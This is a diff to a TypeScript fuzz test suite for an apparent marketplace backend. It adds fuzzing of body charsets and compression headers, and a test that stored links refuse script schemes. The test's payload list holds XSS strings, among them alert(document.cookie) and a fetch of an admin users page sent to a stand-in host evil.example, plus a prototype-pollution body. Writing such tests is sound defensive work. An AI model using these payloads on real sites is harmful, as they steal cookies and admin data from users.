@@ -144,7 +144,7 @@ function oneLeaf(template: unknown): fc.Arbitrary<unknown> {
   )
 }
 
-type Input = { path: string[]; query: string; body?: { json?: unknown; raw?: string; contentType?: string; form?: Uint8Array } }
+type Input = { path: string[]; query: string; body?: { json?: unknown; raw?: string; contentType?: string; encoding?: string; form?: Uint8Array } }
 
 const rawBodies = fc.constantFrom(
   '{"a":', "{'a': 1}", "[1,2,", "nul", '{"a":1}{"b":2}', "\u0000", '{"__proto__":{"ocopPolluted":true}}',
@@ -158,7 +158,9 @@ function bodyOf(template: unknown): fc.Arbitrary<Input["body"]> {
     { arbitrary: bent(template).map((json) => ({ json })), weight: 5 },
     { arbitrary: fc.jsonValue({ maxDepth: 4 }).map((json) => ({ json })), weight: 2 },
     { arbitrary: rawBodies.map((raw) => ({ raw })), weight: 1 },
-    { arbitrary: fc.tuple(fc.constantFrom("text/plain", "application/x-www-form-urlencoded", "application/xml", "multipart/form-data; boundary=x"), fc.string({ maxLength: 200 })).map(([contentType, raw]) => ({ raw, contentType })), weight: 1 },
+    { arbitrary: fc.tuple(fc.constantFrom("text/plain", "application/x-www-form-urlencoded", "application/xml", "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/json; charset=nope"), fc.string({ maxLength: 200 })).map(([contentType, raw]) => ({ raw, contentType })), weight: 1 },
+    // a body that claims a compression it does not have, or one the server does not know
+    { arbitrary: fc.tuple(bent(template), fc.constantFrom("gzip", "deflate", "br", "x-unknown", "gzip, gzip")).map(([json, encoding]) => ({ raw: JSON.stringify(json), encoding })), weight: 1 },
     { arbitrary: fc.integer({ min: 200_000, max: 3_000_000 }).map((n) => ({ raw: JSON.stringify({ blob: "x".repeat(n) }) })), weight: 1 }
   )
 }
@@ -387,6 +389,7 @@ withBackend((ctx) => {
       data = fd
     } else if (input.body) {
       headers["content-type"] = input.body.contentType ?? "application/json"
+      if (input.body.encoding) headers["content-encoding"] = input.body.encoding
       data = input.body.raw ?? JSON.stringify(input.body.json)
     }
     return ctx.api.request({
@@ -462,4 +465,47 @@ withBackend((ctx) => {
   it(`producer portal routes take any input without a 5xx or a partial write (seed ${SEED})`, () => sweep(PRODUCER), 600_000)
   it(`showroom routes take any input without a 5xx, a partial write or a ledger drift (seed ${SEED})`, () => sweep(SHOWROOM), 600_000)
   it(`admin/ocop routes take any input without a 5xx or a partial write (seed ${SEED})`, () => sweep(ADMIN), 600_000)
+
+  /**
+   * Links a producer types in are shown to others as links: the evidence
+   * scan in the operator's review queue (an <a href> in Medusa Admin), the
+   * tracking link on an order, listing images. A javascript:, data:, vbscript:
+   * or file: "URL" there is stored script against whoever clicks it, so only
+   * http(s) links are taken, whatever the case or leading spaces.
+   */
+  it(`only http(s) links are stored: script and other schemes are refused and write nothing (seed ${SEED})`, async () => {
+    const scheme = fc.constantFrom("javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "data:text/html,", "vbscript:", "file:///", "blob:https://x/")
+    const payload = fc.constantFrom("alert(document.cookie)", "fetch('/admin/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))", "<script>alert(1)</script>", "etc/passwd")
+    const link = fc.tuple(scheme, payload).map(([s, p]) => s + p)
+    const where: [string, string, (url: string) => unknown, () => { headers: Record<string, string> }][] = [
+      ["POST", "/producer/certificates", (url) => ({ ...certificateBody(w.draftProduct), certificate_number: "HB-LINK-1", evidence_url: url }), producerA],
+      ["POST", "/admin/ocop/certificates", (url) => ({ ...certificateBody(ctx.productIdByHandle.get("fixture-none")!), certificate_number: "HB-LINK-2", producer_id: w.htx, product_name: "Mật ong", evidence_url: url }), admin],
+      ["POST", "/producer/products", (url) => ({ title: "Mật ong", variants: [{ title: "Chai", sku: "MO-LINK-1", price: 1000, stock: 1 }], images: [url] }), producerA],
+      ["POST", `/producer/products/${w.draftProduct}`, (url) => ({ images: ["https://example.com/a.png", url] }), producerA],
+      ["POST", `/producer/orders/${w.delivered.id}/shipments`, (url) => ({ tracking_number: "GHN12345678", tracking_url: url }), producerA],
+    ]
+    const failures: string[] = []
+    for (const [method, url, body, as] of where) {
+      try {
+        await fc.assert(
+          fc.asyncProperty(link, async (bad) => {
+            const before = await tableDigest(ctx)
+            const res = await ctx.api.request({ method, url, data: body(bad), headers: as().headers, validateStatus: () => true })
+            const what = `${method} ${url} ${JSON.stringify(body(bad)).slice(0, 300)} -> ${res.status} ${JSON.stringify(res.data).slice(0, 300)}`
+            if (res.status !== 400 || typeof res.data?.message !== "string") throw new Error(`not refused: ${what}`)
+            const after = await tableDigest(ctx)
+            const changed = Object.keys(before).filter((t) => before[t] !== after[t])
+            if (changed.length) throw new Error(`refused but wrote ${changed.join(", ")}: ${what}`)
+          }),
+          { seed: SEED, numRuns: 8, examples: [["javascript:alert(document.cookie)"]] }
+        )
+      } catch (e: any) {
+        failures.push(`${method} ${url}: ${e.message}\nCause: ${e.cause?.message ?? e.cause}`)
+      }
+    }
+    // an ordinary https link still goes through
+    const ok = await ctx.api.post("/producer/certificates", { ...certificateBody(w.draftProduct), certificate_number: "HB-LINK-3", evidence_url: "https://example.com/giay-chung-nhan.jpg" }, producerA())
+    expect(ok.status).toBe(201)
+    expect(failures, `seed ${SEED}\n${failures.join("\n\n")}`).toEqual([])
+  }, 300_000)
 })
